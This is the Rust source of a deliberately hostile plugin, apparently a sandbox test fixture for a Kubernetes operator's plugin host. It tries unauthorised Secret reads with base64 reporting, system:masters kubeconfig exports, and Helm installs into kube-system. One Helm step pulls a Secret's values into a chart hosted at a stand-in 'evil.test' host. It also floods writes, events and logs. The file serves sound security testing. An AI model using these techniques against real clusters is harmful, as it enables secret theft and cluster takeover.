//! An attacker's plugin: it tries, through the raw contract bindings, everything a plugin must not get away
//! with (reads, Secrets, workload clusters, Omni, Helm, writes), one attack per entry of `spec.attacks`, and reports what the host answered in `status.results`.
//! Secret bytes it obtains are reported base64-encoded, so a test can search for them.
//!
//! It reconciles OmniHelmRelease (its built-in plugin is not loaded where it runs; its free-form `spec.chart.values` carries the
//! attacks) and declares that the object names Secrets at `spec.chart.values.secretRef.name` (namespace
//! `….namespace`) and at `status.releaseName`, a status field it writes itself. Results go into the message of
//! an `Attacks` condition (the status schema would prune other fields), each cut to 900 characters.

use omni_plugin_sdk::bindings::exports::omni::operator::{plugin, reconciler, validator};
use omni_plugin_sdk::bindings::omni::operator::context::{
    CallContext, Condition, ConditionStatus, EventType,
};
use omni_plugin_sdk::bindings::omni::operator::types::{
    HostError, LogLevel, ObjectRef, OwnerLabel, ReconcileError, SecretKeyRef,
};
use omni_plugin_sdk::bindings::omni::operator::{
    helm, kube_read, kube_write, omni, secrets, workload,
};
use omni_plugin_sdk::{Value, json};

struct Hostile;

fn text(v: &Value, k: &str) -> String {
    v[k].as_str().unwrap_or_default().to_string()
}

fn opt(v: &Value, k: &str) -> Option<String> {
    v[k].as_str().map(str::to_string)
}

fn err(e: HostError) -> Value {
    json!({ "error": format!("{e:?}") })
}

fn key_ref(a: &Value) -> SecretKeyRef {
    SecretKeyRef {
        namespace: opt(a, "namespace"),
        name: text(a, "name"),
        key: text(a, "key"),
    }
}

fn owner(a: &Value) -> OwnerLabel {
    OwnerLabel {
        key: text(a, "ownerKey"),
        value: text(a, "ownerValue"),
    }
}

const B64: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

fn base64(bytes: &[u8]) -> String {
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(B64[(n >> (18 - 6 * i)) as usize & 63] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn attack(ctx: &CallContext, a: &Value) -> Value {
    match a["do"].as_str().unwrap_or_default() {
        "get" => {
            let target = ObjectRef {
                api_version: text(a, "apiVersion"),
                kind: text(a, "kind"),
                namespace: opt(a, "namespace"),
                name: text(a, "name"),
            };
            match kube_read::get(ctx, &target) {
                Ok(found) => json!({ "ok": found }),
                Err(e) => err(e),
            }
        }
        "list" => {
            let query = kube_read::ListQuery {
                api_version: text(a, "apiVersion"),
                kind: text(a, "kind"),
                namespace: opt(a, "namespace"),
                label_selector: None,
                field_selector: None,
            };
            match kube_read::list(ctx, &query) {
                Ok(items) => json!({ "ok": items }),
                Err(e) => err(e),
            }
        }
        "secretInfo" => {
            match secrets::info(ctx, opt(a, "namespace").as_deref(), &text(a, "name")) {
                Ok(info) => {
                    json!({ "ok": info.map(|i| json!({"keys": i.keys, "labels": i.labels, "annotations": i.annotations})) })
                }
                Err(e) => err(e),
            }
        }
        "secretDigest" => match secrets::digest(ctx, &key_ref(a)) {
            Ok(d) => json!({ "ok": d }),
            Err(e) => err(e),
        },
        "secretRead" => match secrets::read(ctx, &key_ref(a)) {
            Ok(v) => json!({ "ok": v.map(|b| base64(&b)) }),
            Err(e) => err(e),
        },
        "secretDelete" => {
            match secrets::delete_owned(
                ctx,
                opt(a, "namespace").as_deref(),
                &text(a, "name"),
                &owner(a),
            ) {
                Ok(r) => json!({ "ok": format!("{r:?}") }),
                Err(e) => err(e),
            }
        }
        "probe" => match workload::probe(ctx, &key_ref(a)) {
            Ok(v) => json!({ "ok": v }),
            Err(e) => err(e),
        },
        "copy" => {
            let request = workload::SecretCopy {
                source_name: text(a, "source"),
                target_namespace: text(a, "targetNamespace"),
                target_name: text(a, "targetName"),
                secret_type: None,
                labels: "{}".into(),
                annotations: "{}".into(),
                create_namespace: true,
                owner: owner(a),
                digest_annotation: None,
            };
            match workload::copy_secret(ctx, &key_ref(&a["kubeconfig"]), &request) {
                Ok(c) => json!({ "ok": c.digest }),
                Err(e) => err(e),
            }
        }
        "export" => {
            let request = omni::KubeconfigExport {
                cluster: text(a, "cluster"),
                user: "hostile".into(),
                groups: vec!["system:masters".into()],
                ttl_ns: 3_600_000_000_000,
                target: key_ref(a),
                remove_key: None,
                context_namespace: None,
                labels: "{}".into(),
                annotations: "{}".into(),
                owner: owner(a),
                digest_annotation: None,
            };
            match omni::export_kubeconfig(ctx, &text(a, "connection"), &request) {
                Ok(e) => json!({ "ok": e.digest }),
                Err(e) => err(e),
            }
        }
        "helmInstall" | "helmStarts" => {
            // Installs a chart of the attacker's choosing into kube-system (`helmInstall`), or starts distinct
            // installs in a loop (`helmStarts`, `count` of them), through the kubeconfig `kubeconfig` names;
            // `takeOwnership` asks Helm to adopt what exists.
            let count = if a["do"] == "helmStarts" {
                a["count"].as_u64().unwrap_or(1)
            } else {
                1
            };
            let mut outcomes = Vec::new();
            for i in 0..count {
                let release = helm::ReleaseRef {
                    kubeconfig: key_ref(&a["kubeconfig"]),
                    name: if count == 1 {
                        "loot".into()
                    } else {
                        format!("loot-{i}")
                    },
                    namespace: opt(a, "releaseNamespace").unwrap_or_else(|| "kube-system".into()),
                    service_account: opt(a, "serviceAccount"),
                };
                let step = helm::Step::Install(helm::ApplyRequest {
                    source: helm::ReleaseSource {
                        chart: helm::ChartPull {
                            location: helm::ChartLocation::Oci(text(a, "chart")),
                            version: "1.0.0".into(),
                            credentials: None,
                            tls: None,
                            verify: None,
                            values_files: Vec::new(),
                            ignore_missing_values_files: false,
                        },
                        values: vec![helm::ValuesPart::Inline(match a["valuesBytes"].as_u64() {
                            Some(n) => format!("{{\"x\":\"{}\"}}", "v".repeat(n as usize)),
                            None => "{}".into(),
                        })],
                        post_render: opt(a, "postRender"),
                    },
                    options: helm::ActionOptions {
                        timeout_seconds: 60,
                        wait: helm::WaitStrategy::Hooks,
                        wait_for_jobs: false,
                        disable_hooks: false,
                    },
                    crds: helm::CrdPolicy::Create,
                    create_namespace: true,
                    replace: false,
                    force: false,
                    cleanup_on_fail: false,
                    rollback_on_failure: false,
                    max_history: 0,
                    apply_method: helm::ApplyMethod::Auto,
                    // `takeOwnership`: adopt objects another release (or a person) made.
                    take_ownership: a["takeOwnership"] == true,
                    skip_schema_validation: false,
                    skip_openapi_validation: false,
                    reuse_values: false,
                    health_checks: Vec::new(),
                });
                outcomes.push(match helm::start(ctx, &release, &step) {
                    Ok(r) => json!({ "ok": r.id }),
                    Err(e) => err(e),
                });
            }
            if count == 1 {
                outcomes.remove(0)
            } else {
                json!({ "started": outcomes.iter().filter(|o| o.get("ok").is_some()).count(),
                    "last": outcomes.last().cloned().unwrap_or_default() })
            }
        }
        "helmDrift" => {
            let release = helm::ReleaseRef {
                kubeconfig: key_ref(&a["kubeconfig"]),
                name: text(a, "release"),
                namespace: text(a, "releaseNamespace"),
                service_account: opt(a, "serviceAccount"),
            };
            match helm::detect_drift(ctx, &release, &[]) {
                Ok(d) => json!({ "ok": d.len() }),
                Err(e) => err(e),
            }
        }
        "helmRead" => {
            // Another object's release, through the kubeconfig both objects name.
            let release = helm::ReleaseRef {
                kubeconfig: key_ref(&a["kubeconfig"]),
                name: text(a, "release"),
                namespace: text(a, "releaseNamespace"),
                service_account: opt(a, "serviceAccount"),
            };
            match helm::observe(ctx, &release, None) {
                Ok(o) => json!({ "ok": o.release.map(|r| r.current.status) }),
                Err(e) => err(e),
            }
        }
        "helmStart" | "helmUninstall" => {
            // An uninstall (by default of kube-system's `loot`) through the kubeconfig `kubeconfig` names.
            let release = helm::ReleaseRef {
                kubeconfig: key_ref(&a["kubeconfig"]),
                name: opt(a, "release").unwrap_or_else(|| "loot".into()),
                namespace: opt(a, "releaseNamespace").unwrap_or_else(|| "kube-system".into()),
                service_account: opt(a, "serviceAccount"),
            };
            let step = helm::Step::Uninstall(helm::UninstallRequest {
                options: helm::ActionOptions {
                    timeout_seconds: 60,
                    wait: helm::WaitStrategy::Hooks,
                    wait_for_jobs: false,
                    disable_hooks: true,
                },
                keep_history: false,
                propagation: helm::DeletionPropagation::Background,
            });
            match helm::start(ctx, &release, &step) {
                Ok(r) => json!({ "ok": r.id }),
                Err(e) => err(e),
            }
        }
        "workloadDelete" => {
            match workload::delete_secret(
                ctx,
                &key_ref(&a["kubeconfig"]),
                &text(a, "targetNamespace"),
                &text(a, "targetName"),
                &owner(a),
            ) {
                Ok(r) => json!({ "ok": format!("{r:?}") }),
                Err(e) => err(e),
            }
        }
        "helmObserve" => {
            // Values from a Secret the object does not name, through a kubeconfig it does: the Secret's data
            // would go to a cluster of the object's choosing.
            let release = helm::ReleaseRef {
                kubeconfig: key_ref(&a["kubeconfig"]),
                name: "loot".into(),
                namespace: "apps".into(),
                service_account: opt(a, "serviceAccount"),
            };
            let source = helm::ReleaseSource {
                chart: helm::ChartPull {
                    location: helm::ChartLocation::Oci("oci://evil.test/loot".into()),
                    version: "1.0.0".into(),
                    credentials: None,
                    tls: None,
                    verify: None,
                    values_files: Vec::new(),
                    ignore_missing_values_files: false,
                },
                values: vec![helm::ValuesPart::Referenced(helm::ValuesRef {
                    kind: helm::ValuesKind::Secret,
                    name: text(a, "valuesSecret"),
                    key: "serviceAccountKey".into(),
                    target_path: Some("loot".into()),
                    optional: false,
                })],
                post_render: None,
            };
            match helm::observe(ctx, &release, Some(&source)) {
                Ok(o) => json!({ "ok": o.wanted }),
                Err(e) => err(e),
            }
        }
        "claim" => {
            // Points the object's own status at a Secret, for the next call to reach through `status.claimed`.
            ctx.set_status(&json!({ "releaseName": text(a, "name") }).to_string());
            json!({ "ok": "claimed" })
        }
        "badStatus" => {
            // A status the CRD refuses: a string where the schema wants an integer, long enough that the API
            // server's message quoting it passes an Event note's limit.
            ctx.set_status(&json!({ "releaseRevision": "x".repeat(a["bytes"].as_u64().unwrap_or(8) as usize) }).to_string());
            json!({ "ok": "written" })
        }
        "logHuge" => {
            let size = a["bytes"].as_u64().unwrap_or(0) as usize;
            let big = "x".repeat(size);
            for _ in 0..a["times"].as_u64().unwrap_or(1) {
                ctx.log(LogLevel::Info, &big, &[("field".to_string(), big.clone())]);
            }
            json!({ "ok": size })
        }
        "eventHuge" => {
            let size = a["bytes"].as_u64().unwrap_or(0) as usize;
            ctx.event(EventType::Warning, "Huge", &"x".repeat(size));
            json!({ "ok": size })
        }
        "events" => {
            for i in 0..a["count"].as_u64().unwrap_or(0) {
                ctx.event(EventType::Warning, "Spam", &format!("event {i}"));
            }
            json!({ "ok": true })
        }
        "requeue" => {
            ctx.requeue_after(a["ms"].as_u64().unwrap_or(0));
            json!({ "ok": true })
        }
        "spin" => {
            let mut n = 0u64;
            for _ in 0..a["calls"].as_u64().unwrap_or(0) {
                n = n.wrapping_add(ctx.remaining_ms());
            }
            json!({ "ok": n > 0 })
        }
        "write" => {
            // Applies (or, with `verb: create`, creates) `object`, `count` times under numbered names, padded with
            // `padBytes` bytes of data, with a fresh `data.nonce` each time under `vary`; reports each answer, or for
            // a flood how many went through.
            let options = kube_write::WriteOptions {
                owned: a["owned"] == json!(true),
                dry_run: a["dryRun"] == json!(true),
                force: a["force"] == json!(true),
            };
            let count = a["count"].as_u64().unwrap_or(1);
            let mut outcomes = Vec::new();
            for i in 0..count {
                let mut object = a["object"].clone();
                if count > 1 {
                    object["metadata"]["name"] =
                        json!(format!("{}-{i}", text(&a["object"]["metadata"], "name")));
                }
                if let Some(n) = a["padBytes"].as_u64() {
                    object["data"]["pad"] = json!("p".repeat(n as usize));
                }
                // A body that differs on every call, so no apply is one the host can answer without writing.
                if a["vary"] == json!(true) {
                    use std::hash::BuildHasher as _;
                    let nonce = std::collections::hash_map::RandomState::new().hash_one(i);
                    object["data"]["nonce"] = json!(format!("{nonce:x}"));
                }
                let body = object.to_string();
                let answer = if a["verb"] == "create" {
                    kube_write::create(ctx, &body, options)
                } else {
                    kube_write::apply(ctx, &body, options)
                };
                outcomes.push(match answer {
                    Ok(stored) => json!({ "ok": stored }),
                    Err(e) => err(e),
                });
            }
            if count == 1 {
                outcomes.remove(0)
            } else {
                json!({ "written": outcomes.iter().filter(|o| o.get("ok").is_some()).count(),
                    "last": outcomes.last().cloned().unwrap_or_default() })
            }
        }
        "patch" | "delete" => {
            let target = ObjectRef {
                api_version: text(a, "apiVersion"),
                kind: text(a, "kind"),
                namespace: opt(a, "namespace"),
                name: text(a, "name"),
            };
            if a["do"] == "delete" {
                let options = kube_write::DeleteOptions {
                    uid: None,
                    resource_version: None,
                    propagation: kube_write::Propagation::Background,
                    dry_run: false,
                };
                match kube_write::delete(ctx, &target, &options) {
                    Ok(deleted) => json!({ "ok": deleted }),
                    Err(e) => err(e),
                }
            } else {
                let options = kube_write::WriteOptions {
                    owned: false,
                    dry_run: false,
                    force: false,
                };
                let kind = if a["json"] == json!(true) {
                    kube_write::PatchType::Json
                } else {
                    kube_write::PatchType::Merge
                };
                match kube_write::patch(ctx, &target, kind, &a["patch"].to_string(), options) {
                    Ok(stored) => json!({ "ok": stored }),
                    Err(e) => err(e),
                }
            }
        }
        "now" => {
            let since = std::time::SystemTime::now()
                .duration_since(std::time::UNIX_EPOCH)
                .map(|d| d.as_secs())
                .unwrap_or(0);
            json!({ "ok": since })
        }
        other => json!({ "error": format!("unknown attack {other:?}") }),
    }
}

impl plugin::Guest for Hostile {
    fn describe() -> plugin::Info {
        plugin::Info {
            name: "hostile".into(),
            version: "1.0.0".into(),
            kinds: vec![omni_plugin_sdk::bindings::omni::operator::types::Gvk {
                group: "omni.texashpc.com".into(),
                version: "v1alpha1".into(),
                kind: "OmniHelmRelease".into(),
            }],
            related: Vec::new(),
            finalizer: None,
            legacy_finalizers: Vec::new(),
            capabilities: Vec::new(),
            secret_fields: vec![
                plugin::SecretField {
                    name: "spec.chart.values.secretRef.name".into(),
                    namespace: Some("spec.chart.values.secretRef.namespace".into()),
                },
                plugin::SecretField {
                    name: "status.releaseName".into(),
                    namespace: None,
                },
            ],
        }
    }
}

impl reconciler::Guest for Hostile {
    fn reconcile(ctx: &CallContext) -> Result<(), ReconcileError> {
        let object: Value =
            omni_plugin_sdk::serde_json::from_str(&ctx.object()).unwrap_or_default();
        let attacks = object["spec"]["chart"]["values"]["attacks"]
            .as_array()
            .cloned()
            .unwrap_or_default();
        let results: Vec<String> = attacks
            .iter()
            .map(|a| attack(ctx, a).to_string().chars().take(900).collect())
            .collect();
        ctx.set_condition(&Condition {
            type_: "Attacks".into(),
            status: ConditionStatus::True,
            reason: "Reported".into(),
            message: json!(results).to_string(),
        });
        // A plugin that gives up after being denied: its denials are reported with the failure.
        if object["spec"]["chart"]["values"]["fail"] == json!(true) {
            return Err(ReconcileError::Transient(
                "gave up after the attacks".into(),
            ));
        }
        Ok(())
    }

    fn finalize(_ctx: &CallContext) -> Result<bool, ReconcileError> {
        Ok(true)
    }
}

impl validator::Guest for Hostile {
    /// Answers what `spec.chart.values.validate` asks for: `errors` field errors (the first with a detail of
    /// `detailBytes`), `warnings` warnings (the first of `warningBytes`), a `trap`, or a `spin` until the deadline.
    fn validate(object: String, _old_object: Option<String>) -> validator::Verdict {
        let object: Value = omni_plugin_sdk::serde_json::from_str(&object).unwrap_or_default();
        let asked = &object["spec"]["chart"]["values"]["validate"];
        if asked["trap"] == json!(true) {
            panic!("validate traps on purpose");
        }
        if asked["spin"] == json!(true) {
            let mut n = 0u64;
            loop {
                n = std::hint::black_box(n.wrapping_add(1));
            }
        }
        let count = |k: &str| asked[k].as_u64().unwrap_or(0) as usize;
        let errors = (0..count("errors"))
            .map(|i| validator::FieldError {
                field: format!("spec.field{i}"),
                type_: validator::FieldErrorType::Invalid,
                value: None,
                detail: if i == 0 {
                    "d".repeat(count("detailBytes"))
                } else {
                    "bad".into()
                },
            })
            .collect();
        let warnings = (0..count("warnings"))
            .map(|i| {
                if i == 0 {
                    "w".repeat(count("warningBytes"))
                } else {
                    format!("warning {i}")
                }
            })
            .collect();
        validator::Verdict { errors, warnings }
    }
}

omni_plugin_sdk::bindings::export!(Hostile with_types_in omni_plugin_sdk::bindings);
